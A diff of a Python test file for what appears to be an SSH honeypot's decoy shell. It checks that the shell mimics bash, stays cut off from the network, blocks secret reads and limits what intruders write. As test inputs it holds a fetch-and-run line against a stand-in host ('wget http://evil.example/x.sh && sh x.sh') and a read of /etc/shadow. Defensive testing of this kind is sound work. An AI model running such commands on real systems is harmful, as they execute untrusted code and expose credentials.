@@ -12,8 +12,10 @@ from hypothesis import strategies as st
 
 from decnet.decoys.events import MAX_LINE, Recorder
 from decnet.decoys.persona import Persona
+from decnet.decoys.shell.at_once import run_at_once
+from decnet.decoys.shell.commands import command_names
+from decnet.decoys.shell.programs import PROGRAMS
 from decnet.decoys.shell.state import MOST_OUTPUT, Answer, Shell
-from decnet.decoys.shell.terminal import all_commands
 from decnet.decoys.shell.world import World
 from decnet.decoys.ssh.kex import prime
 from decnet.decoys.ssh.sntrup import P, Q, decode, encode
@@ -31,7 +33,7 @@ def persona(release: str = "debian-12") -> Persona:
 
 
 def shell_of(output: int, release: str = "debian-12", user: str = "root") -> Shell:
-    return Shell(World(persona(release)), user, Recorder(output).session("192.0.2.9", 4000), all_commands())
+    return Shell(World(persona(release)), user, Recorder(output).session("192.0.2.9", 4000))
 
 
 @pytest.fixture
@@ -53,19 +55,19 @@ def shell() -> Iterator[Shell]:
         ("echo hi > /tmp/x && cat /tmp/x && rm /tmp/x; cat /tmp/x", "hi\n", "cat: /tmp/x: No such file or directory\n", 1),
         ("nope 2>/dev/null; echo $?", "127\n", "", 0),
         ("ls /etc/ssh", "sshd_config\n", "", 0),
-        ("echo 'open", "", "bash: line 1: unexpected EOF while looking for matching `''\n", 2),
-        ("| cat", "", "bash: line 1: syntax error near unexpected token `|'\n", 2),
+        ("echo 'open", "", "bash: -c: line 1: unexpected EOF while looking for matching `''\n", 2),
+        ("| cat", "", "bash: -c: line 1: syntax error near unexpected token `|'\nbash: -c: line 1: `| cat'\n", 2),
         ("X=5; echo $X${X}", "55\n", "", 0),
         ("printf 'a\\nb\\n' | tail -n 1", "b\n", "", 0),
         ("cd /var/log; ls *.log", "auth.log\ndpkg.log\nkern.log\n", "", 0),
     ],
 )  # fmt: skip
 def test_a_line_gives_what_bash_gives(shell: Shell, line: str, out: str, error: str, status: int) -> None:
-    assert shell.run(line) == Answer(out, error, status)
+    assert run_at_once(shell, line) == Answer(out, error, status)
 
 
 def test_nothing_out_there_can_be_reached(shell: Shell) -> None:
-    answer = shell.run("wget http://evil.example/x.sh && sh x.sh")
+    answer = run_at_once(shell, "wget http://evil.example/x.sh && sh x.sh")
 
     assert (
         "unable to resolve host address 'evil.example'" in answer.error
@@ -79,8 +81,8 @@ def test_a_user_reads_no_secrets_and_writes_nowhere_but_at_home() -> None:
     shell = shell_of(into, user="admin")
     os.close(out)
 
-    assert shell.run("cat /etc/shadow").error == "cat: /etc/shadow: Permission denied\n"
-    assert shell.run("echo x > /etc/x").error == "bash: line 1: /etc/x: Permission denied\n"
+    assert run_at_once(shell, "cat /etc/shadow").error == "cat: /etc/shadow: Permission denied\n"
+    assert run_at_once(shell, "echo x > /etc/x").error == "bash: line 1: /etc/x: Permission denied\n"
     os.close(into)
 
 
@@ -88,15 +90,15 @@ def test_a_line_that_grows_without_end_is_bounded(shell: Shell) -> None:
     line = "echo " + "a" * 1000
     for _ in range(6):
         line = f"echo $({line})$({line})"
-    assert len(shell.run(line).out) <= MOST_OUTPUT
-    assert len(shell.run(";".join(["cat /proc/cpuinfo"] * 390)).out) <= MOST_OUTPUT
+    assert len(run_at_once(shell, line).out) <= MOST_OUTPUT
+    assert len(run_at_once(shell, ";".join(["cat /proc/cpuinfo"] * 390)).out) <= MOST_OUTPUT
 
 
 def test_what_an_intruder_writes_is_bounded(shell: Shell) -> None:
     for number in range(400):
-        shell.run(f"echo {'x' * 4000} > /tmp/{number}")
+        run_at_once(shell, f"echo {'x' * 4000} > /tmp/{number}")
 
-    assert "No space left on device" in shell.run("echo x > /tmp/more").error
+    assert "No space left on device" in run_at_once(shell, "echo x > /tmp/more").error
 
 
 @settings(max_examples=300)
@@ -104,7 +106,7 @@ def test_what_an_intruder_writes_is_bounded(shell: Shell) -> None:
 def test_no_line_breaks_the_shell(parts: list[str]) -> None:
     out, into = os.pipe()
     try:
-        assert isinstance(shell_of(into).run("".join(parts)), Answer)
+        assert isinstance(run_at_once(shell_of(into), "".join(parts)), Answer)
     finally:
         os.close(out)
         os.close(into)
@@ -116,10 +118,10 @@ def test_no_command_and_no_file_identifies_the_decoy(release: str) -> None:
     shell = shell_of(into, release)
     os.close(out)
     said = ""
-    for name in all_commands():
+    for name in (*command_names(), *PROGRAMS, "set", "help", "history"):
         for arguments in ("", " -a", " --help", " /etc/passwd", " /nope", " http://x.example/a"):
             if name not in ("exit", "logout"):
-                answer = shell.run(name + arguments)
+                answer = run_at_once(shell, name + arguments)
                 said += answer.out + answer.error
     for path in World(persona(release)).nodes:
         said += path + (shell.read(path) or "")
